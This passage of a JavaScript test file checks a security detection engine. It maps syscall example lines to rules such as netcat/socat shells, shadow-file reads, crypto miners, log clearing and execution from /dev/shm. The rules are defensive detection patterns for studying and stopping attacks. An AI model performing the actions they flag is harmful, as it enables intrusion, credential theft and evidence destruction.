      2: ['Interactive Shell In Container'],
      3: [],
      4: [SHADOW_READ],
      5: [],
      6: ['Crypto Miner Launched'],
      7: [MINER_PORT],
      8: ['Netcat Or Socat Running A Program'],
      9: [DUP],
      10: [],
      11: ['Log File Cleared'],
      12: ['Execution From Dev Shm'],
    };

    it('raises the rules listed for each line', () => {
      const engine = createEngine(loaded, { ruleMatching: 'all' });
      const lines = readFileSync(SYSCALL_EXAMPLES, 'utf8')
        .split('\n')
        .filter((l) => l.trim() !== '');
      expect(lines.length).toBe(Object.keys(EXPECTED_EXAMPLES).length);
      lines.forEach((l, i) => {
        const got = engine.process(parseLine(l, i + 1)).map((a) => a.rule);
        expect(got.sort(), `line ${i + 1}`).toEqual([...(EXPECTED_EXAMPLES[i + 1] ?? [])].sort());
      });
    });
  });
});
